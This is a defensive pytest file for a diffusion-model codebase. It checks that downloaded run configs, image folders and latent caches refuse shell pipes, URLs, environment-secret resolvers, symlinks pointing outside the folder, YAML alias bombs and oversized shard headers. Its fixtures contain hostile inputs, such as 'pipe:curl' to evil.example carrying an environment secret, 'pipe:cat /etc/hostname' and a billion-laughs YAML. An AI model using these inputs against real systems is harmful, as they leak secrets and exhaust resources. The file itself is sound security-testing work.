"""Issue 25: a folder downloaded from elsewhere (a run folder, an image folder, a latent cache) is bounded data.

Each test crafts a small folder as a hostile-but-realistic uploader would, and checks the clear error (type, file and
key named), that no shell command ran (marker file), no connection was attempted, no secret of the environment or of
a file outside the folder reached a message or a caption, and that nothing was written through a shipped link."""

from __future__ import annotations

import json
import logging
import os
import re
import socket
import subprocess
import sys
from pathlib import Path

import pytest
import torch
from omegaconf import OmegaConf
from safetensors.torch import save_file

from ldm.cli.evaluate import EvaluateConfigError, allowed_data_targets, data_config, evaluate, output_path
from ldm.cli.evaluate_config import compose_evaluate
from ldm.cli.run_config import PATH_KEYS, brace_count
from ldm.data.bad_samples import bad_sample_names, share_bad_sample_log
from ldm.data.cached_latents import CachedLatentsDataset
from ldm.data.image_folder import ImageFolderDataset
from ldm.data.latent_cache import FORMAT, MANIFEST, LatentCacheError
from ldm.models.tiny_clip import caption_words
from ldm.training.run.config_checks import ConfigError
from tests.helpers.data import save_image

ROOT = Path(__file__).resolve().parents[2]
SECRET = "hunter2-correct-horse"  # an environment value that must never be read
SHAPES = {"_target_": "ldm.tasks.shapes.dataset.ShapesDataset", "size": 8, "resolution": 16}
MODULE = "ldm.data.datamodule.ImageCaptionDataModule"


@pytest.fixture
def no_network(monkeypatch):
    """socket connects are recorded and refused: a test asserts the list stays empty."""
    attempts = []

    def connect(self, address):
        attempts.append(address)
        raise OSError("network disabled in this test")

    monkeypatch.setattr(socket.socket, "connect", connect)
    monkeypatch.setenv("LDM_TEST_SECRET", SECRET)
    return attempts


def run_folder(tmp_path: Path, data, **top) -> Path:
    """<tmp>/run/checkpoints/last.ckpt beside a config.yaml holding ``data`` (and top-level keys); returns the ckpt."""
    ckpt = tmp_path / "run" / "checkpoints" / "last.ckpt"
    ckpt.parent.mkdir(parents=True, exist_ok=True)
    ckpt.write_bytes(b"")
    OmegaConf.save({"seed": 0, **top, "data": data}, ckpt.parent.parent / "config.yaml")
    return ckpt


def stored_data(ckpt: Path):
    return data_config(OmegaConf.create({"data": None, "ckpt": str(ckpt)}))


def refused(ckpt: Path, key: str, match: str) -> str:
    with pytest.raises(EvaluateConfigError, match=match) as info:
        stored_data(ckpt)
    message = str(info.value)
    assert f"{ckpt.parent.parent / 'config.yaml'}: {key}" in message and "set data=" in message
    return message


# ---- 1. a run's config.yaml drives evaluation only through local paths, never a resolver, a URL or a shell

def webdataset(urls) -> dict:
    return {"_target_": MODULE, "train": {"_target_": "ldm.data.webdataset.WebDatasetSource", "urls": urls},
            "batch_size": 2}


def test_a_pipe_shard_runs_no_command(tmp_path, no_network):
    marker = tmp_path / "MARKER"
    ckpt = run_folder(tmp_path, webdataset(f"pipe:touch {marker}"))
    refused(ckpt, "data.train.urls", "is a URL or a command")
    ckpt = run_folder(tmp_path, webdataset([f"pipe:touch {marker}", "pipe:cat /etc/hostname"]))
    refused(ckpt, "data.train.urls", "is a URL or a command")
    assert not marker.exists() and no_network == []


@pytest.mark.parametrize("urls", [
    "http://evil.example/shards-{000..009}.tar?t=${oc.env:LDM_TEST_SECRET}",
    "pipe:curl -s http://evil.example/${oc.env:LDM_TEST_SECRET} | tar x",
    "${oc.decode:'http://evil.example/${oc.env:LDM_TEST_SECRET}'}",
])
def test_an_environment_resolver_is_never_resolved(tmp_path, no_network, urls):
    message = refused(run_folder(tmp_path, webdataset(urls)), "data.train.urls", r"uses the resolver \$\{oc\.")
    assert SECRET not in message and no_network == []


def test_a_resolver_reached_through_a_node_interpolation_is_refused_too(tmp_path, no_network):
    """${shard_url} names a plain node, which itself reads the environment: the node is refused by its key."""
    ckpt = run_folder(tmp_path, webdataset("${shard_url}"), shard_url="http://x.example/${oc.env:LDM_TEST_SECRET}")
    assert SECRET not in refused(ckpt, "shard_url", r"uses the resolver \$\{oc\.env")
    escaped = run_folder(tmp_path, webdataset(r"http://x.example/\${oc.env:LDM_TEST_SECRET}"))
    assert SECRET not in refused(escaped, "data.train.urls", "escaped interpolation")
    assert no_network == []


@pytest.mark.parametrize("urls, why", [
    ("http://evil.example/shards-{000..002}.tar", "is a URL or a command"),
    ("s3://bucket/shard.tar", "is a URL or a command"),
    ("shards-{0..99999999999999999}.tar", "brace pattern naming more than"),
    ("nowhere/shard-{0..2}.tar", "is not a local file that exists here"),
])
def test_shards_must_be_local_files(tmp_path, no_network, urls, why):
    refused(run_folder(tmp_path, webdataset(urls)), "data.train.urls", why)
    assert no_network == []


def test_a_hub_dataset_id_is_not_fetched(tmp_path, no_network):
    hf = {"_target_": MODULE, "train": {"_target_": "ldm.data.hf_dataset.HFDataset", "path": "someone/pokemon"},
          "val_fraction": 0.5, "batch_size": 2}
    refused(run_folder(tmp_path, hf), "data.train.path", "not a local file or folder that exists here")
    plain_folder = tmp_path / "with_readme"  # load_dataset would read what its README's configs name
    plain_folder.mkdir()
    card = "---\nconfigs:\n- config_name: default\n  data_files: http://x.example/y.csv\n---\n"
    (plain_folder / "README.md").write_text(card)
    hf["train"]["path"] = str(plain_folder)
    refused(run_folder(tmp_path, hf), "data.train.path", "not a folder written by Dataset.save_to_disk")
    assert no_network == []


def test_only_a_training_runs_layout_has_a_run_config(tmp_path):
    """A single file, or an export folder, beside an unrelated config.yaml is not a run."""
    OmegaConf.save({"data": {"_target_": MODULE, "train": SHAPES, "val": SHAPES}}, tmp_path / "config.yaml")
    (tmp_path / "model.safetensors").write_bytes(b"")
    for ckpt in (tmp_path / "model.safetensors", tmp_path):
        with pytest.raises(EvaluateConfigError, match="is not a checkpoint of a training run"):
            stored_data(ckpt)


def test_a_yaml_alias_bomb_or_a_brace_bomb_ends_in_a_clear_error_quickly(tmp_path):
    """Under a 3 GiB address-space limit: a billion-laughs config.yaml and a shard pattern naming 10^17 names."""
    laughs = tmp_path / "laughs" / "checkpoints" / "last.ckpt"
    laughs.parent.mkdir(parents=True)
    laughs.write_bytes(b"")
    lines = ["a0: &a0 [x, x, x, x, x, x, x, x, x, x]"]
    lines += [f"a{i}: &a{i} [" + ", ".join([f"*a{i - 1}"] * 10) + "]" for i in range(1, 10)]
    (laughs.parent.parent / "config.yaml").write_text("\n".join(lines) + "\ndata: *a9\n")
    braces = run_folder(tmp_path, webdataset("s-{0..999999999}{0..999999999}.tar"))
    code = f"""
import resource
resource.setrlimit(resource.RLIMIT_AS, (3 << 30, 3 << 30))
from omegaconf import OmegaConf
from ldm.cli.evaluate import EvaluateConfigError, data_config
for ckpt in ({str(laughs)!r}, {str(braces)!r}):
    try:
        data_config(OmegaConf.create({{"data": None, "ckpt": ckpt}}))
    except EvaluateConfigError as err:
        print("REFUSED", err)
"""
    out = subprocess.run([sys.executable, "-c", code], cwd=ROOT, capture_output=True, text=True, timeout=120,
                         env={**os.environ, "OMP_NUM_THREADS": "1"})
    assert out.returncode == 0, out.stderr[-2000:]
    assert "config.yaml: file: YAML alias *a0" in out.stdout and "brace pattern naming more than" in out.stdout
    assert brace_count("s-{0..99}{a,b}.tar") == 200 and brace_count("s-{0..{1..2}}.tar") is None


def test_a_legit_run_config_still_gives_its_data_with_its_paths_shown(tmp_path, caplog, no_network, monkeypatch):
    """As train() saves it (interpolations kept: ${seed}, ${data.train.colors}, latent_cache through oc.env)."""
    from tests.helpers.training import compose_train

    cfg = compose_train(tmp_path, ["data=shapes", "data.val.size=4"])
    ckpt = run_folder(tmp_path, None)
    OmegaConf.save(cfg, ckpt.parent.parent / "config.yaml", resolve=False)
    text = (ckpt.parent.parent / "config.yaml").read_text()
    assert "latent_cache: ${paths.cache_dir}/latents" in text and "${oc.env:PROJECT_ROOT" in text
    data = stored_data(ckpt)
    assert data.val.colors == cfg.data.train.colors and data.seed == cfg.seed and data.latent_cache is None

    for i in range(3):
        save_image(tmp_path / "pics" / f"{i}.png")
    cfg = compose_train(tmp_path, ["data=folder", "data.train.root=pics", "data.val_fraction=0.34"])
    OmegaConf.save(cfg, ckpt.parent.parent / "config.yaml", resolve=False)
    monkeypatch.chdir(tmp_path)  # a relative root is read from where the command runs, and shown absolute
    with caplog.at_level(logging.INFO, logger="ldm.evaluation"):
        data = stored_data(ckpt)
    assert data.train.root == str(tmp_path / "pics")
    assert f"read from data.train.root={tmp_path / 'pics'}" in caplog.text and no_network == []


def test_every_data_class_a_run_config_may_build_says_which_paths_it_reads():
    assert allowed_data_targets() <= set(PATH_KEYS)


# ---- 2. an image folder's links out of it are not read

def secret_folder(tmp_path: Path) -> tuple[Path, Path]:
    """root/ with a real image, a linked image inside, an image linked to a file outside, a caption linked to a
    secret file outside and a metadata file linked outside; returns (root, the outside folder)."""
    outside, root = tmp_path / "home", tmp_path / "download"
    save_image(outside / "private.png", color=(0, 255, 0))
    (outside / "secret.txt").write_text("swordfish password")
    (outside / "metadata.jsonl").write_text(json.dumps({"file_name": "a.png", "text": "swordfish"}) + "\n")
    save_image(root / "a.png", color=(255, 0, 0))
    (root / "a.txt").write_text("a red square")
    save_image(root / "sub" / "b.png", color=(255, 0, 0))
    (root / "inner.png").symlink_to(root / "sub" / "b.png")  # a link that stays inside keeps working
    (root / "inner.txt").symlink_to(root / "a.txt")
    (root / "private.png").symlink_to(outside / "private.png")
    save_image(root / "c.png", color=(255, 0, 0))
    (root / "c.txt").symlink_to(outside / "secret.txt")
    (root / "sub" / "metadata.jsonl").symlink_to(outside / "metadata.jsonl")
    return root, outside


def test_links_out_of_an_image_folder_are_never_read(tmp_path, caplog, monkeypatch):
    import PIL.Image

    root, outside = secret_folder(tmp_path)
    opened, real_open = [], PIL.Image.open
    monkeypatch.setattr(PIL.Image, "open", lambda fp, *a, **k: (opened.append(fp), real_open(fp, *a, **k))[1])
    with caplog.at_level(logging.WARNING, logger="ldm.data"):
        dataset = ImageFolderDataset(root, resolution=8, buckets={"enabled": True, "step": 4})
        share_bad_sample_log(dataset, tmp_path / "run" / "bad_samples")
        items = [dataset[i] for i in range(len(dataset))]
    assert "swordfish" not in " ".join(dataset.captions + caption_words(dataset.captions))
    assert dataset.captions[dataset.files.index("inner.png")] == "a red square"
    assert dataset.captions[dataset.files.index("c.png")] == ""  # its linked caption ignored
    assert {item["key"] for item in items} == {"a.png", "c.png", "inner.png", "sub/b.png"}  # private.png skipped
    assert all(item["image"][1].max() < 0 for item in items)  # no green: the outside image never became a sample
    assert dataset.bad_files == {"private.png"}
    assert bad_sample_names(tmp_path / "run" / "bad_samples") == [f"ImageFolderDataset({root}): private.png"]
    assert not any(Path(str(p)).resolve().is_relative_to(outside) for p in opened if isinstance(p, (str, Path)))
    for name in ("private.png", "c.txt", "sub/metadata.jsonl"):
        assert str(root / name) in caplog.text or f"{name!r}" in caplog.text


def test_dreambooth_masks_linked_from_outside_are_refused(tmp_path):
    from ldm.data.dreambooth import DreamBoothDataset

    root, outside = secret_folder(tmp_path)
    masks = tmp_path / "masks"
    for key in ("a", "c", "inner", "sub/b"):
        save_image(masks / f"{key}.png")
    (masks / "private.png").symlink_to(outside / "private.png")
    with pytest.raises(ValueError, match=r"mask_root: mask of private\.png = 'private\.png' points outside"):
        DreamBoothDataset(root, "a sks square", resolution=8, mask_root=masks)
    with pytest.raises(ValueError, match=r"image = 'private\.png' points outside"):
        DreamBoothDataset(root, "a sks square", resolution=8, mask_from_alpha=True)


# ---- 3. a latent cache's manifest names only its own shards, and a shard's header is checked before it is read

def cache_folder(folder: Path, shard_file: str) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    manifest = {"format": FORMAT, "version": 1, "complete": True, "store": "mode", "text": "caption",
                "shard_size": 2, "dtype": "float32", "latent_shape": [4, 2, 2], "context_shape": None,
                "scaling_factor": 1.0, "shift_factor": 0.0, "shards": [{"file": shard_file, "start": 0, "count": 2}]}
    (folder / MANIFEST).write_text(json.dumps(manifest))
    return folder


def test_a_manifest_naming_a_shard_outside_its_folder_is_refused(tmp_path):
    other = tmp_path / "other"
    other.mkdir()
    save_file({"latents": torch.zeros(2, 4, 2, 2), "index": torch.arange(2)}, str(other / "shard-00000.safetensors"))
    for name in ("../other/shard-00000.safetensors", str(other / "shard-00000.safetensors"), "link.safetensors"):
        folder = cache_folder(tmp_path / "cache", name)
        if name == "link.safetensors":
            (folder / name).symlink_to(other / "shard-00000.safetensors")
        with pytest.raises(LatentCacheError, match=re.escape(f"{folder / MANIFEST}: shards[0].file = {name!r} ")
                           + "(points outside|is an absolute path)"):
            CachedLatentsDataset(folder)


def test_a_shard_header_claiming_2_to_the_50_bytes_is_a_clear_error(tmp_path):
    folder = cache_folder(tmp_path / "cache", "shard-00000.safetensors")
    (folder / "shard-00000.safetensors").write_bytes((1 << 50).to_bytes(8, "little") + b"{}")
    deep = cache_folder(tmp_path / "deep", "shard-00000.safetensors")
    (deep / "shard-00000.safetensors").write_bytes((40000).to_bytes(8, "little") + b"[" * 40000)
    code = f"""
import resource
resource.setrlimit(resource.RLIMIT_AS, (3 << 30, 3 << 30))
from ldm.data.cached_latents import CachedLatentsDataset
from ldm.data.latent_cache import LatentCacheError
for folder in ({str(folder)!r}, {str(deep)!r}):
    try:
        CachedLatentsDataset(folder)[0]
    except LatentCacheError as err:
        print("REFUSED", err)
"""
    out = subprocess.run([sys.executable, "-c", code], cwd=ROOT, capture_output=True, text=True, timeout=120,
                         env={**os.environ, "OMP_NUM_THREADS": "1"})
    assert out.returncode == 0, out.stderr[-2000:]
    assert f"shard {folder / 'shard-00000.safetensors'} is unreadable (ValueError: its header claims {1 << 50}" \
           in out.stdout
    assert f"shard {deep / 'shard-00000.safetensors'} is unreadable (RecursionError" in out.stdout


# ---- 4. nothing is written through a link shipped in a folder

def test_evaluate_writes_no_result_through_a_shipped_link(tmp_path):
    elsewhere, victim = tmp_path / "elsewhere", tmp_path / "victim.txt"
    elsewhere.mkdir()
    victim.write_text("precious")
    export = tmp_path / "export"  # an ldm export folder (detected by ldm_bundle.json) shipping eval -> elsewhere
    export.mkdir()
    (export / "ldm_bundle.json").write_text("{}")
    (export / "eval").symlink_to(elsewhere)
    with pytest.raises(EvaluateConfigError, match=rf"{export / 'eval'} is a symbolic link.*set out_dir="):
        evaluate(compose_evaluate([f"ckpt={export}", "data=shapes"]))
    run = tmp_path / "run"  # a run's checkpoint whose eval/last.json is a link to a file of the user's
    (run / "checkpoints").mkdir(parents=True)
    save_file({"model.diffusion_model.x": torch.zeros(1)}, str(run / "checkpoints" / "last.safetensors"))
    (run / "eval").mkdir()
    (run / "eval" / "last.json").symlink_to(victim)
    with pytest.raises(EvaluateConfigError, match=rf"{run / 'eval' / 'last.json'} is a symbolic link"):
        evaluate(compose_evaluate([f"ckpt={run / 'checkpoints' / 'last.safetensors'}", "data=shapes"]))
    assert victim.read_text() == "precious" and list(elsewhere.iterdir()) == []
    out = tmp_path / "mine"  # the user's own out_dir is theirs to choose
    assert output_path(compose_evaluate([f"ckpt={export}", f"out_dir={out}"])) == out / "export.json"


@pytest.mark.parametrize("link", ["config.yaml", "checkpoints", "metrics.csv", "samples"])
def test_a_resumed_run_writes_nothing_through_a_shipped_link(tmp_path, link):
    from ldm.training.run.train import train
    from tests.helpers.training import TINY_MODEL, compose_train

    victim = tmp_path / "victim"
    run = tmp_path / "run"
    if link == "checkpoints":  # the run's checkpoints folder is somewhere else of the user's
        victim.mkdir()
        (victim / "last.ckpt").write_bytes(b"precious")
    else:
        victim.write_text("precious")
        (run / "checkpoints").mkdir(parents=True)
        (run / "checkpoints" / "last.ckpt").write_bytes(b"")
    run.mkdir(exist_ok=True)
    (run / link).symlink_to(victim)
    before = sorted(p.name for p in run.rglob("*"))
    with pytest.raises(ConfigError, match=rf"{run / link} is a symbolic link to {victim}, outside the run folder"):
        train(compose_train(tmp_path, [*TINY_MODEL, "ckpt_path=last"]))
    with pytest.raises(ConfigError, match=rf"{run / link} is a symbolic link"):  # a fresh run into that folder too
        train(compose_train(tmp_path, [*TINY_MODEL]))
    assert sorted(p.name for p in run.rglob("*")) == before
    assert (victim / "last.ckpt" if victim.is_dir() else victim).read_bytes() == b"precious"
